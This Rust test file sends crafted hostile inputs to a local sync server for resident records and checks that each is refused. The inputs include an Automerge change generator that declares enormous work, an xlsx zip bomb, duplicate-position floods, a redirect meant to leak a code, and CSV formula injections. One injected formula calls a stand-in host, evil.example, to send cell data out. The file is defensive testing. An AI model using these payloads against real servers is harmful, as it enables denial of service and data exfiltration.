//! (Long on purpose: one bad input per section, each beside the honest form of the same shape,
//! sharing one server harness; split, the harness would be repeated in every file.)
//!
//! Bad input sent from outside, as an attacker would send it: a real server on port 0, the
//! request as bytes. Each test shows a clear refusal (a stable code), the server still
//! answering, and nothing stored changed (issue 10). The compressed-change bomb, which also
//! watches the process's memory, is `compressed_bomb.rs` (a binary of its own).

use automerge::Automerge;
use gridkeeper_tests::{TestDevice, TestServer, error_code, fingerprint, post_sync, resident};
use serde_json::Value;
use sync_protocol::doc::{self, DocKey, Edit};
use sync_protocol::model::Record;
use sync_protocol::org::{Author, Role};
use sync_protocol::schema::Collection;
use sync_protocol::wire::{GridPosition, OutChange, PROTOCOL_VERSION, SyncRequest, SyncResponse};
use uuid::Uuid;

async fn worker_a(server: &TestServer) -> (TestDevice, String) {
    let a = TestDevice::enrol(&server.url(), &server.code_for(server.org.worker_a).await, "worker A").await;
    a.create_resident(&resident("陈立", "1970-03-03", "011")).unwrap();
    a.sync().await.unwrap();
    let token = a.identity().unwrap().token;
    (a, token)
}

/// A compressed change chunk (Automerge's chunk type 2) is refused from its header: the server
/// never inflates it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_compressed_change_is_refused_from_its_header() {
    let server = TestServer::start().await;
    let (a, token) = worker_a(&server).await;
    let id = a.identity().unwrap();
    let author = Author { account: id.account.id, device: id.device_id, role: Role::GridWorker, node: None };
    let mut r = resident("长备注", "1980-05-05", "055");
    r.notes = Some("独居老人，子女在外地务工，每月探望一次。".repeat(20));
    let key = DocKey::new(server.org.grid_a, Collection::Residents);
    let edit = Edit { doc: key, record: r.id, creating: true, fields: r.to_fields() };
    let mut change =
        doc::make_change(&Automerge::new(), doc::actor_for(id.device_id, 0), &edit, &author, 1_764_000_000_000)
            .unwrap()
            .unwrap();
    let compressed = change.bytes().to_vec();
    assert!(
        doc::is_compressed_chunk(&compressed),
        "Automerge compresses a change of {} bytes",
        change.raw_bytes().len()
    );
    let before = fingerprint(&server).await;

    let body = SyncRequest {
        version: PROTOCOL_VERSION,
        positions: vec![],
        changes: vec![OutChange { doc: key, bytes: compressed }],
        budget: 0,
        settings: 0,
    }
    .encode();
    let (status, bytes) = post_sync(&server, &token, body).await;
    assert_eq!(status, 200);
    let answer = SyncResponse::decode(&bytes).unwrap();
    let codes: Vec<&str> = answer.refused.iter().map(|r| r.code.as_str()).collect();
    assert_eq!(codes, ["compressed_change"]);
    assert_eq!(fingerprint(&server).await, before, "a refused change stores nothing");
    // The server still works for the same device.
    assert_eq!(a.sync().await.unwrap().refused, 0);
}

/// A chunk of another Automerge type than a plain change — here a bundle whose run-length
/// columns automerge would expand past 512 MB (found by fuzzing) — is refused from its header.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_chunk_that_is_not_a_plain_change_is_refused_from_its_header() {
    let server = TestServer::start().await;
    let (a, token) = worker_a(&server).await;
    let kept = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../fuzz/regressions/validate_change/bundle-chunk-expands-run-length-columns");
    let bundle = std::fs::read(kept).unwrap()[1..].to_vec();
    let before = fingerprint(&server).await;
    let key = DocKey::new(server.org.grid_a, Collection::Residents);
    let body = SyncRequest {
        version: PROTOCOL_VERSION,
        positions: vec![],
        changes: vec![OutChange { doc: key, bytes: bundle }],
        budget: 0,
        settings: 0,
    }
    .encode();
    let (status, bytes) = post_sync(&server, &token, body).await;
    assert_eq!(status, 200);
    let answer = SyncResponse::decode(&bytes).unwrap();
    let codes: Vec<&str> = answer.refused.iter().map(|r| r.code.as_str()).collect();
    assert_eq!(codes, ["malformed_change"]);
    assert_eq!(fingerprint(&server).await, before, "a refused change stores nothing");
    assert_eq!(a.sync().await.unwrap().refused, 0);
}

/// How [`run_length_change`] shapes its columns.
#[derive(Clone, Copy)]
enum Shape {
    /// Every operation sets key "a" of the root to null, with no predecessors.
    Plain,
    /// The action column starts with a null run of length zero, which Automerge skips.
    NullFirst,
    /// Each operation names this many predecessors (Automerge collects them into a list).
    Preds(u64),
    /// The key is this many bytes long (Automerge copies it for every operation).
    LongKey(u64),
}

/// An Automerge change chunk of `ops` operations, each column one run-length entry: about a
/// hundred bytes whatever `ops` is.
fn run_length_change(actor: &[u8], message: &str, ops: u64, shape: Shape) -> Vec<u8> {
    let u = |n: u64| {
        let mut v = Vec::new();
        leb128::write::unsigned(&mut v, n).unwrap();
        v
    };
    let s = |n: i64| {
        let mut v = Vec::new();
        leb128::write::signed(&mut v, n).unwrap();
        v
    };
    let n = ops as i64;
    let key = match shape {
        Shape::LongKey(len) => vec![b'a'; len as usize],
        _ => b"a".to_vec(),
    };
    let preds = match shape {
        Shape::Preds(k) => k,
        _ => 0,
    };
    let action = match shape {
        Shape::NullFirst => [s(0), u(0), s(n), u(1)].concat(),
        _ => [s(n), u(1)].concat(),
    };
    let mut columns: Vec<(u64, Vec<u8>)> = vec![
        (0x11, [u(0), u(ops)].concat()),                   // key actor: nulls
        (0x13, [u(0), u(ops)].concat()),                   // key counter: nulls
        (0x15, [s(n), u(key.len() as u64), key].concat()), // key string
        (0x34, u(ops)),                                    // insert: false
        (0x42, action),                                    // action: set
        (0x56, [s(n), u(0)].concat()),                     // value metadata: null
        (0x70, [s(n), u(preds)].concat()),                 // pred: how many each
    ];
    if preds > 0 {
        let all = (ops * preds) as i64;
        columns.push((0x71, [s(all), u(0)].concat())); // pred actor: the change's own
        columns.push((0x73, [s(all), s(1)].concat())); // pred counter: 1, 2, 3 …
    }
    let mut body = [u(0), u(actor.len() as u64), actor.to_vec(), u(1), u(1), s(0)].concat();
    body.extend([u(message.len() as u64), message.as_bytes().to_vec(), u(0), u(columns.len() as u64)].concat());
    for (spec, data) in &columns {
        body.extend([u(*spec), u(data.len() as u64)].concat());
    }
    for (_, data) in &columns {
        body.extend(data);
    }
    [vec![0x85, 0x6f, 0x4a, 0x83, 0, 0, 0, 0, 1], u(body.len() as u64), body].concat()
}

/// Changes of a hundred bytes that declare work out of all proportion, each refused from what
/// it declares before Automerge reads it (found by fuzzing and by review):
/// - 2⁴⁰ operations (Automerge walks every one to count them: 10⁷ took 15 s; this, days);
/// - the same behind a null run of length zero, which Automerge skips and a naive count stops at;
/// - one operation with 2³³ predecessors (Automerge collects them: a 64 GiB list);
/// - 10,000 operations on a 1 MB key (Automerge copies the key for each: 10 GB).
///
/// The honest form of the change (three operations) goes on to the validator, so what refuses
/// the others is what they declare.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn changes_declaring_work_out_of_proportion_are_refused_unread() {
    let server = TestServer::start().await;
    let (a, token) = worker_a(&server).await;
    let id = a.identity().unwrap();
    let actor = doc::actor_for(id.device_id, 0);
    let message = doc::ChangeMeta { account: id.account.id, device: id.device_id }.message();
    let key = DocKey::new(server.org.grid_a, Collection::Residents);
    let before = fingerprint(&server).await;
    let refusal = |ops: u64, shape: Shape| {
        let bytes = run_length_change(actor.to_bytes(), &message, ops, shape);
        let body = SyncRequest {
            version: PROTOCOL_VERSION,
            positions: vec![],
            changes: vec![OutChange { doc: key, bytes }],
            budget: 0,
            settings: 0,
        }
        .encode();
        let (server, token) = (&server, &token);
        async move {
            let (status, bytes) =
                tokio::time::timeout(std::time::Duration::from_secs(120), post_sync(server, token, body))
                    .await
                    .expect("the server answers instead of doing the work");
            assert_eq!(status, 200);
            let answer = SyncResponse::decode(&bytes).unwrap();
            answer.refused.iter().map(|r| r.code.as_str().to_string()).collect::<Vec<_>>()
        }
    };
    // Three operations read as a change and reach the validator, which refuses a root value;
    // so do three with two predecessors each and a 100-byte key.
    for shape in [Shape::Plain, Shape::Preds(2), Shape::LongKey(100)] {
        let codes = refusal(3, shape).await;
        assert_eq!(codes.len(), 1);
        assert_ne!(codes, ["malformed_change"]);
    }
    assert_eq!(refusal(1 << 40, Shape::Plain).await, ["malformed_change"]);
    assert_eq!(refusal(1 << 40, Shape::NullFirst).await, ["malformed_change"]);
    assert_eq!(refusal(1, Shape::Preds(1 << 33)).await, ["malformed_change"]);
    assert_eq!(refusal(10_000, Shape::LongKey(1 << 20)).await, ["malformed_change"]);
    assert_eq!(fingerprint(&server).await, before, "a refused change stores nothing");
    assert_eq!(a.sync().await.unwrap().refused, 0);
}

/// A position named twice, or more positions than a county has grids, is refused before any
/// grid is looked up; 100,000 copies of one position kept the server busy for 16–28 s before.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn positions_named_twice_or_by_the_thousand_are_refused() {
    let server = TestServer::start().await;
    let (a, token) = worker_a(&server).await;
    let before = fingerprint(&server).await;
    let grid = server.org.grid_a;

    // 100,000 copies of one position (1.8 MB): over the cap, refused before anything is read.
    let copies = vec![GridPosition { grid, seq: 1 }; 100_000];
    let body =
        SyncRequest { version: PROTOCOL_VERSION, positions: copies, changes: vec![], budget: 0, settings: 0 }.encode();
    let (status, bytes) = post_sync(&server, &token, body).await;
    assert_eq!((status, error_code(&bytes).as_str()), (400, "too_many_positions"));

    // Under the cap, a grid named twice.
    let twice = vec![
        GridPosition { grid, seq: 1 },
        GridPosition { grid: server.org.grid_b, seq: 1 },
        GridPosition { grid, seq: 2 },
    ];
    let body =
        SyncRequest { version: PROTOCOL_VERSION, positions: twice, changes: vec![], budget: 0, settings: 0 }.encode();
    let (status, bytes) = post_sync(&server, &token, body).await;
    assert_eq!((status, error_code(&bytes).as_str()), (400, "duplicate_position"));

    let many: Vec<GridPosition> = (0..2_001).map(|_| GridPosition { grid: Uuid::now_v7(), seq: 1 }).collect();
    let body =
        SyncRequest { version: PROTOCOL_VERSION, positions: many, changes: vec![], budget: 0, settings: 0 }.encode();
    let (status, bytes) = post_sync(&server, &token, body).await;
    assert_eq!((status, error_code(&bytes).as_str()), (400, "too_many_positions"));

    assert_eq!(fingerprint(&server).await, before);
    a.create_resident(&resident("郑华", "1971-04-04", "022")).unwrap();
    assert_eq!(a.sync().await.unwrap().acknowledged, 1, "the device syncs as before");
}

/// A note that a spreadsheet would run as a formula leaves a CSV export as text.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_csv_export_carries_no_formula() {
    let server = TestServer::start().await;
    let a = TestDevice::enrol(&server.url(), &server.code_for(server.org.worker_a).await, "worker A").await;
    let formulas = ["=HYPERLINK(\"http://evil.example/?\"&F2,\"点击查看\")", "+1+2", "-2+3", "@SUM(A1)", "\t=1+1"];
    for (i, note) in formulas.iter().enumerate() {
        let mut r = resident(&format!("居民{i}"), "1970-01-01", &format!("{:03}", 101 + 2 * i));
        r.notes = Some(note.to_string());
        a.create_resident(&r).unwrap();
    }
    a.sync().await.unwrap();
    let admin = TestDevice::enrol(&server.url(), &server.code_for(server.org.admin).await, "admin").await;
    let resp = reqwest::Client::new()
        .get(format!("{}/v1/admin/grids/{}/roster?format=csv", server.url(), server.org.grid_a))
        .bearer_auth(admin.identity().unwrap().token)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 200);
    let csv = resp.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(csv.as_bytes());
    let mut seen = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell a spreadsheet runs: {cell:?}");
            if formulas.iter().any(|f| cell == format!("'{f}")) {
                seen += 1;
            }
        }
    }
    assert_eq!(seen, formulas.len(), "every note is exported, behind an apostrophe");
}

/// The device never follows a redirect: a 307 would have it send the same body (here an
/// enrolment code) again, to wherever it points, plain `http://` included.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_device_never_follows_a_redirect() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let elsewhere = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let target = elsewhere.local_addr().unwrap();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = hits.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = elsewhere.accept().await {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let _ = s.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}").await;
        }
    });
    let redirecting = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", redirecting.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((mut s, _)) = redirecting.accept().await {
            let mut buf = vec![0u8; 16 * 1024];
            let _ = s.read(&mut buf).await;
            let answer = format!(
                "HTTP/1.1 307 Temporary Redirect\r\nlocation: http://{target}/v1/enrol\r\ncontent-length: 0\r\n\r\n"
            );
            let _ = s.write_all(answer.as_bytes()).await;
        }
    });
    let dir = tempfile::tempdir().unwrap();
    let device = field_core::Device::open(&dir.path().join("device.db")).unwrap();
    let err = device.enrol(&url, "ABCD-EFGH-JKLM", "handheld").await.unwrap_err();
    assert_eq!(err.code().as_str(), "unexpected_response", "{err}");
    assert_eq!(hits.load(std::sync::atomic::Ordering::SeqCst), 0, "the code went nowhere else");
    assert!(device.identity().is_none());
}

/// A chunk uploaded into one grid never lands in another grid's upload of the same photo, and
/// the answer never names the other grid (before, it appended to grid A's unfinished upload,
/// which then failed its hash, and answered with grid A).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upload_never_touches_another_grids_photo() {
    let server = TestServer::start().await;
    let o = server.org.clone();
    let (_, token_a) = worker_a(&server).await;
    let b = TestDevice::enrol(&server.url(), &server.code_for(o.worker_b).await, "worker B").await;
    b.sync().await.unwrap();
    let token_b = b.identity().unwrap().token;
    let photo: Vec<u8> = (0..64u8).collect();
    let hash = field_core::hash_of(&photo);
    let put = |token: String, grid: Uuid, offset: usize, bytes: Vec<u8>| {
        let (url, hash) = (server.url(), hash.clone());
        async move {
            let resp = reqwest::Client::new()
                .put(format!("{url}/v1/blobs/{hash}"))
                .bearer_auth(token)
                .header("Gridkeeper-Grid", grid.to_string())
                .header("Gridkeeper-Total", "64")
                .header("Gridkeeper-Offset", offset.to_string())
                .body(bytes)
                .send()
                .await
                .unwrap();
            assert_eq!(resp.status().as_u16(), 200);
            resp.json::<Value>().await.unwrap()
        }
    };
    let first = put(token_a.clone(), o.grid_a, 0, photo[..32].to_vec()).await;
    assert_eq!(first["received"], 32);
    // Grid B's device sends "the rest" of the same hash, with other bytes, for its own grid.
    let theirs = put(token_b.clone(), o.grid_b, 32, vec![0xee; 32]).await;
    assert_eq!(theirs["grid"], o.grid_b.to_string(), "the answer names only the caller's grid");
    assert_eq!(theirs["received"], 0);
    let status = |token: String| {
        let (url, hash) = (server.url(), hash.clone());
        async move {
            let resp = reqwest::Client::new()
                .get(format!("{url}/v1/blobs/{hash}/status"))
                .bearer_auth(token)
                .send()
                .await
                .unwrap();
            (resp.status().as_u16(), resp.json::<Value>().await.unwrap())
        }
    };
    let (code, mine) = status(token_a.clone()).await;
    assert_eq!((code, mine["received"].clone(), mine["grid"].clone()), (200, 32.into(), o.grid_a.to_string().into()));
    assert_eq!(status(token_b).await.0, 404, "grid B holds nothing of it, and learns nothing of grid A's");
    // Grid A finishes its own upload as if nothing happened.
    let done = put(token_a, o.grid_a, 32, photo[32..].to_vec()).await;
    assert_eq!(done["complete"], true);
    assert_eq!(server.storage().blob(o.grid_a, &hash).await.unwrap(), Some(photo));
}

/// A workbook holding cells at A1 and XFD1048576 made the reader lay out a grid of 1.7·10¹⁰
/// cells before any size check; now cells are streamed: ones right of the roster's columns are
/// not read, and rows further apart than a roster can be are refused as they arrive.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workbook_spanning_the_whole_sheet_is_refused_without_laying_it_out() {
    let server = TestServer::start().await;
    let admin = TestDevice::enrol(&server.url(), &server.code_for(server.org.admin).await, "admin").await;
    let token = admin.identity().unwrap().token;
    let workbook = |far_row: u32, far_col: u16| {
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        sheet.write_string(0, 0, "姓名").unwrap();
        sheet.write_string(0, 1, "性别").unwrap();
        sheet.write_string(0, 2, "出生日期").unwrap();
        sheet.write_string(1, 0, "张三").unwrap();
        sheet.write_string(far_row, far_col, "远").unwrap();
        book.save_to_buffer().unwrap()
    };
    let import = |bytes: Vec<u8>| {
        let (url, token, grid) = (server.url(), token.clone(), server.org.grid_a);
        async move {
            let resp = reqwest::Client::new()
                .post(format!("{url}/v1/admin/grids/{grid}/roster?format=xlsx"))
                .bearer_auth(token)
                .body(bytes)
                .send()
                .await
                .unwrap();
            let status = resp.status().as_u16();
            (status, resp.bytes().await.unwrap().to_vec())
        }
    };
    let before = fingerprint(&server).await;
    // XFD1048576: the far cell is not read; the rest is judged as a roster (and rejected, the
    // one row lacking its fields), nothing laid out.
    let (status, body) = import(workbook(1_048_575, 16_383)).await;
    assert_eq!((status, error_code(&body).as_str()), (422, "roster_rejected"), "{}", String::from_utf8_lossy(&body));
    // A1048576: rows a million apart are refused as they arrive.
    let (status, body) = import(workbook(1_048_575, 0)).await;
    assert_eq!((status, error_code(&body).as_str()), (400, "too_many_rows"));
    assert_eq!(fingerprint(&server).await, before);
    let health = reqwest::get(format!("{}/health", server.url())).await.unwrap();
    assert_eq!(health.status().as_u16(), 200, "the server still answers");
}

/// An .xlsx is a zip: a part of 80 MB of zeros deflates to about 80 KB, and the workbook reader
/// keeps some parts (the shared strings) whole in memory. Parts are unpacked through a counter
/// first and the file refused past 64 MB a part — whatever sizes the zip declares.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workbook_whose_parts_unpack_past_the_limit_is_refused() {
    use std::io::Write;
    let server = TestServer::start().await;
    let admin = TestDevice::enrol(&server.url(), &server.code_for(server.org.admin).await, "admin").await;
    let token = admin.identity().unwrap().token;
    // A real workbook, with one part grown to 80 MB of zeros.
    let mut book = rust_xlsxwriter::Workbook::new();
    book.add_worksheet().write_string(0, 0, "姓名").unwrap();
    let honest = book.save_to_buffer().unwrap();
    let mut source = zip::ZipArchive::new(std::io::Cursor::new(honest.clone())).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let deflated = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for i in 0..source.len() {
        let part = source.by_index(i).unwrap();
        let name = part.name().unwrap().to_string();
        if name == "xl/sharedStrings.xml" {
            out.start_file(name, deflated).unwrap();
            let zeros = vec![0u8; 1 << 20];
            for _ in 0..80 {
                out.write_all(&zeros).unwrap();
            }
        } else {
            out.raw_copy_file(part).unwrap();
        }
    }
    let bomb = out.finish().unwrap().into_inner();
    assert!(bomb.len() < 1 << 20, "the bomb is small: {} bytes", bomb.len());

    let before = fingerprint(&server).await;
    for (bytes, expected) in [(bomb, "bad_workbook"), (honest, "no_header")] {
        let resp = reqwest::Client::new()
            .post(format!("{}/v1/admin/grids/{}/roster?format=xlsx", server.url(), server.org.grid_a))
            .bearer_auth(&token)
            .body(bytes)
            .send()
            .await
            .unwrap();
        let status = resp.status().as_u16();
        let body = resp.bytes().await.unwrap();
        assert_eq!((status, error_code(&body).as_str()), (400, expected), "{}", String::from_utf8_lossy(&body));
        if expected == "bad_workbook" {
            assert!(String::from_utf8_lossy(&body).contains("xl/sharedStrings.xml unpacks past"));
        }
    }
    assert_eq!(fingerprint(&server).await, before);
}

/// A device may not hold more unfinished uploads than its quota, nor start more bytes a day;
/// a resumed upload is not a new one; an abandoned upload is deleted with its chunks.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_are_held_to_a_quota_per_device_and_abandoned_ones_are_deleted() {
    use county_server::service::blobs::UploadLimits;
    use sha2::{Digest, Sha256};
    let limits = UploadLimits { unfinished: 3, daily_bytes: 1_000, abandoned_after_ms: 60_000 };
    let server =
        TestServer::start_opts(county_server::server::ServeOptions { uploads: limits, ..Default::default() }).await;
    let (a, token) = worker_a(&server).await;
    let grid = server.org.grid_a;
    let put = |hash: String, total: usize, offset: usize, bytes: Vec<u8>| {
        let (server, token) = (&server, token.clone());
        async move { gridkeeper_tests::put_blob_chunk(server, &token, &hash, grid, total, offset, bytes).await }
    };
    let photo = |i: u8, n: usize| vec![i; n];
    let name = |b: &[u8]| Sha256::digest(b).iter().map(|x| format!("{x:02x}")).collect::<String>();
    // Three uploads begun and left unfinished: the fourth is refused, the third resumed is not.
    for i in 0..3 {
        let p = photo(i, 100);
        assert_eq!(put(name(&p), 100, 0, p[..10].to_vec()).await.0, 200);
    }
    let fourth = photo(3, 100);
    let (status, body) = put(name(&fourth), 100, 0, fourth[..10].to_vec()).await;
    assert_eq!((status, error_code(&body).as_str()), (429, "upload_quota"));
    let third = photo(2, 100);
    let (status, body) = put(name(&third), 100, 10, third[10..].to_vec()).await;
    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&body));
    // Now two are unfinished: a new one goes, and is finished.
    let (status, _) = put(name(&fourth), 100, 0, fourth.clone()).await;
    assert_eq!(status, 200);
    // A day's bytes: 400 started so far; 700 more would pass 1,000.
    let big = photo(9, 700);
    let (status, body) = put(name(&big), 700, 0, big.clone()).await;
    assert_eq!((status, error_code(&body).as_str()), (429, "upload_quota"));
    assert!(server.storage().blob_states(&name(&big)).await.unwrap().is_empty(), "nothing stored of it");
    // Another device's quota is its own.
    let b = TestDevice::enrol(&server.url(), &server.code_for(server.org.assistant_a).await, "assistant").await;
    let b_token = b.identity().unwrap().token;
    let (status, _) = gridkeeper_tests::put_blob_chunk(&server, &b_token, &name(&big), grid, 700, 0, big).await;
    assert_eq!(status, 200);

    // Abandoned: a minute after their last chunk, the two unfinished uploads are deleted with
    // their chunks; the finished photos stay.
    let county = server.running.as_ref().unwrap().county.clone();
    let now = chrono::Utc::now().timestamp_millis();
    assert_eq!(county.prune_abandoned_uploads(now).await.unwrap(), 0, "not yet a minute");
    assert_eq!(county.prune_abandoned_uploads(now + 61_000).await.unwrap(), 2);
    for i in 0..2 {
        assert!(server.storage().blob_states(&name(&photo(i, 100))).await.unwrap().is_empty());
    }
    assert_eq!(server.storage().blob(grid, &name(&third)).await.unwrap(), Some(third));
    assert_eq!(server.storage().blob(grid, &name(&fourth)).await.unwrap(), Some(fourth));
    assert_eq!(a.sync().await.unwrap().refused, 0, "the device still syncs");
}

/// `gk-device` never keeps a real county's records and token in a plain database: without a
/// PIN it enrols only with a server on this machine; with one its database is encrypted.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_command_line_device_keeps_no_real_county_unencrypted() {
    let bin = gridkeeper_tests::workspace_bin("gk-device");
    let dir = tempfile::tempdir().unwrap();
    let plain = dir.path().join("plain.db");
    // A county's address (`.invalid` never resolves; the refusal comes before any connection).
    let out = std::process::Command::new(&bin)
        .arg("--db")
        .arg(&plain)
        .args(["enrol", "https://county.invalid", "ABCD-EFGH-JKLM"])
        .env_remove("GK_DEVICE_PIN")
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("GK_DEVICE_PIN"), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(!plain.exists(), "nothing was written");

    let server = TestServer::start().await;
    let code = server.code_for(server.org.worker_a).await;
    let sealed = dir.path().join("sealed.db");
    let run = |args: Vec<String>| {
        let (bin, sealed) = (bin.clone(), sealed.clone());
        tokio::task::spawn_blocking(move || {
            std::process::Command::new(bin)
                .arg("--db")
                .arg(sealed)
                .args(args)
                .env_remove("GK_DEVICE_PIN")
                .output()
                .unwrap()
        })
    };
    let out = run(vec!["--pin".into(), "246810".into(), "enrol".into(), server.url(), code]).await.unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = run(vec!["--pin".into(), "246810".into(), "sync".into()]).await.unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    // Encrypted: without the PIN it does not open, with a wrong one neither.
    assert!(field_core::Device::open(&sealed).is_err(), "a plain open reads nothing");
    let out = run(vec!["--pin".into(), "135792".into(), "status".into()]).await.unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("wrong_pin"));
}

/// A device re-using its actor's sequence number 1 with other content (found by fuzzing:
/// automerge asserts on it, which panicked the server's sync worker): refused
/// `malformed_change`, nothing stored, and the server goes on serving the grid.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_change_reusing_its_actors_sequence_number_is_refused() {
    let server = TestServer::start().await;
    let (dev, token) = worker_a(&server).await;
    let id = dev.identity().unwrap();
    let key = DocKey::new(server.org.grid_a, Collection::Residents);
    let author = Author { account: id.account.id, device: id.device_id, role: Role::GridWorker, node: None };
    let seq1 = |r: &sync_protocol::model::Resident| {
        let edit = Edit { doc: key, record: r.id, creating: true, fields: r.to_fields() };
        // An epoch of its own, so the first is this actor's first change in the document.
        let c = doc::make_change(&Automerge::new(), doc::actor_for(id.device_id, 9), &edit, &author, 1_764_000_000_000)
            .unwrap()
            .unwrap();
        assert_eq!(c.seq(), 1);
        OutChange { doc: key, bytes: c.raw_bytes().to_vec() }
    };
    let send = |changes: Vec<OutChange>| {
        SyncRequest { version: PROTOCOL_VERSION, positions: vec![], changes, budget: 0, settings: 0 }.encode()
    };
    let (status, body) = post_sync(&server, &token, send(vec![seq1(&resident("甲", "1970-01-01", "011"))])).await;
    assert_eq!(status, 200);
    assert!(SyncResponse::decode(&body).unwrap().refused.is_empty());
    let before = fingerprint(&server).await;

    let (status, body) = post_sync(&server, &token, send(vec![seq1(&resident("乙", "1971-01-01", "013"))])).await;
    assert_eq!(status, 200, "{}", error_code(&body));
    let answer = SyncResponse::decode(&body).unwrap();
    assert_eq!(answer.refused.len(), 1);
    assert_eq!(answer.refused[0].code.as_str(), "malformed_change");
    assert_eq!(fingerprint(&server).await, before, "nothing stored");

    // The grid is served as before, and an honest device still syncs.
    let other = TestDevice::enrol(&server.url(), &server.code_for(server.org.assistant_a).await, "b").await;
    other.sync().await.unwrap();
    assert_eq!(other.residents(&Default::default()).unwrap().len(), 2);
}
